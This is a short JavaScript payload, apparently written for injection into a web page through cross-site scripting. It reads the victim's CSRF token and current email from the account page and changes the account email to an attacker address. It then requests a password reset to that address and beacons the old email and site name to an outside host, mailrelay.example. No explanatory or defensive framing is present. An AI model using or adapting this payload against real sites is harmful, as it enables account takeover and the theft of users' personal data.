var x = new XMLHttpRequest();
x.open('GET', '/my/account', false); x.send();
var tok = /name="csrf_token" value="([^"]+)"/.exec(x.responseText)[1];
var old = /name="email"[^>]*value="([^"]+)"/.exec(x.responseText)[1];
var y = new XMLHttpRequest();
y.open('POST', '/my/account/email', true);
y.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
y.onload = function () {
  var z = new XMLHttpRequest();
  z.open('POST', '/password/forgot', true);
  z.send('email=box77%40mailrelay.example&csrf_token=' + tok);
  (new Image).src = 'http://mailrelay.example/ok?from=' + encodeURIComponent(old) + '&site=' + location.host;
};
y.send('csrf_token=' + tok + '&email=box77%40mailrelay.example');
